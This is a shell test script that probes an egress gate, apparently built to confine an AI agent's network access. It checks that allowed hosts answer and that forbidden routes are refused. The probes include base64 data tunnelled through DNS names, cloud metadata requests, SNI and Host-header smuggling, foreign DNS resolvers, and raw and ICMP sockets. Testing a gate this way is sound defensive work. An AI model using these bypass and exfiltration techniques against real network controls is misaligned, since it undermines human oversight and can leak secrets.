# Run by the agent itself; each line is `name=outcome`. HOST, HOST_PORT, BACKEND,
# BACKEND_PORT and NEIGHBOUR are put in front.
for _ in $(seq 200); do ip -o addr | grep -q 'inet 203.0.113' && ip -o addr | grep -q 'inet 169.254.169' && break; sleep 0.1; done
ip -o -4 addr | awk '{ print "interface=" $4 }'

try() { # NAME COMMAND…: reached when a test host has answered
    name=$1; shift
    if timeout 10 bash -c '"$@"' _ "$@" 2> /tmp/error | grep -aq -e reached -e SSH-2.0; then echo "$name=reached"
    else echo "$name=refused"; fi
}
web() { curl --silent --show-error --insecure --max-time 8 "$@"; }
tcp() { bash -c 'exec 3<> /dev/tcp/$0/$1 && { echo hello >&3; head -c 7 <&3; }' "$1" "$2"; }
python() { python3 -c "import socket, struct
def name(n): return b''.join(bytes([len(p)]) + p.encode() for p in n.split('.')) + b'\0'
def question(n): return struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + name(n) + struct.pack('>HH', 1, 1)
$1"; }
ask() { # SERVER NAME: reached when the answer holds an address
    python "
s = socket.socket(socket.AF_INET6 if ':' in '$1' else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(question('$2'), ('$1', 53)); answer = s.recv(512)
print('reached' if struct.unpack('>H', answer[6:8])[0] else 'refused')"; }
ask_tcp() { python "
s = socket.create_connection(('$1', 53), 5); q = question('$2')
s.sendall(struct.pack('>H', len(q)) + q); s.settimeout(5); answer = s.recv(512)
print('reached' if struct.unpack('>H', answer[8:10])[0] else 'refused')"; }
export -f web tcp python ask ask_tcp

# What is allowed works: by name, by a rotating address, below a wildcard, a protocol that names nobody.
try allowed_https web https://allowed.example/
try allowed_http web http://allowed.example/
try allowed_ipv6 web -6 http://allowed.example/
for i in 1 2 3 4; do try "rotating_$i" web http://rotating.example/; done
try wildcard web http://deep.below.wild.example/
try ssh_by_name tcp ssh.example 22
try named_network tcp 203.0.113.11 5432

# Addresses that nobody allowed, over IPv4 and IPv6.
try literal_https web https://203.0.113.10/
try literal_http web http://203.0.113.10/
try literal_other_port tcp 203.0.113.10 5432
try literal_ipv6 web -g 'http://[2001:db8:cafe::10]/'
try nameless web https://203.0.113.12/
try nameless_ipv6 web -g 'http://[2001:db8:cafe::12]/'
try mapped_ipv6 web -g 'http://[::ffff:203.0.113.10]/'
try metadata web http://169.254.169.254/latest/meta-data/
try host tcp "$HOST" "$HOST_PORT"
try backend bash -c 'web --fail --header "Host: $0" "http://$1:$2/health" && echo reached' "$BACKEND" "$HOST" "$BACKEND_PORT"
try neighbour web "http://$NEIGHBOUR:7335/health"
try own_executor web "http://$(hostname -i | awk '{ print $1 }'):7335/"
try rebinding web http://rebind.example/

# DNS is asked of the gate alone, whoever is named, and only for what is allowed.
try dns_forbidden_name ask 127.0.0.11 forbidden.example
try dns_foreign ask 203.0.113.53 forbidden.example
try dns_foreign_ipv6 ask 2001:db8:cafe::10 forbidden.example
try dns_tcp ask_tcp 203.0.113.53 forbidden.example
try dns_data ask 127.0.0.11 c2VjcmV0LWRhdGE.forbidden.example
try dns_data_foreign ask 203.0.113.53 c2VjcmV0LWRhdGE.forbidden.example
try dns_over_tls web https://203.0.113.53:853/
try dns_over_https web 'https://203.0.113.53/dns-query?name=forbidden.example'
try wildcard_itself web http://wild.example/

# An allowed address is no way to a forbidden name.
getent ahosts allowed.example > /dev/null
try forbidden_name web https://forbidden.example/
try forbidden_sni web --resolve forbidden.example:443:203.0.113.10 https://forbidden.example/
try no_sni bash -c 'printf "GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n" | openssl s_client -quiet -noservername -connect allowed.example:443'
try forbidden_host_header web --header 'Host: forbidden.example' http://allowed.example/
try two_host_headers bash -c 'exec 3<> /dev/tcp/allowed.example/80; printf "GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: forbidden.example\r\n\r\n" >&3; timeout 3 cat <&3'
try second_request python "
s = socket.create_connection(('allowed.example', 80), 5); s.settimeout(5)
s.sendall(b'GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n'); first = s.recv(4096)
s.sendall(b'GET / HTTP/1.1\r\nHost: forbidden.example\r\n\r\n'); second = s.recv(4096)
print('reached' if b'reached' in second else 'refused')"
try leading_line_ends python "
s = socket.create_connection(('allowed.example', 80), 5); s.settimeout(5)
s.sendall(b'\r\n\r\nGET / HTTP/1.1\r\nHost: forbidden.example\r\n\r\n'); print(s.recv(4096))"
try late_hello python "
import time
s = socket.create_connection(('allowed.example', 443), 5); s.settimeout(8); time.sleep(2)
import ssl; c = ssl._create_unverified_context(); t = c.wrap_socket(s, server_hostname='forbidden.example')
t.sendall(b'GET / HTTP/1.1\r\nHost: forbidden.example\r\n\r\n'); print(t.recv(4096))"
try ssh_out tcp allowed.example 22
try smtp_out tcp allowed.example 25

# What is not TCP.
try udp python "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('203.0.113.10', 9999)); print('reached')"
try udp_ipv6 python "
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('2001:db8:cafe::10', 9999)); print('reached')"
try icmp python "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(3)
s.sendto(b'\x08\0\xf7\xff\0\0\0\0', ('203.0.113.10', 0)); s.recv(99); print('reached')"
for kind in AF_INET AF_INET6 AF_PACKET; do
    try "raw_$kind" python "socket.socket(socket.$kind, socket.SOCK_RAW, 255); print('reached')"
done
try nothing web http://nothing.example/
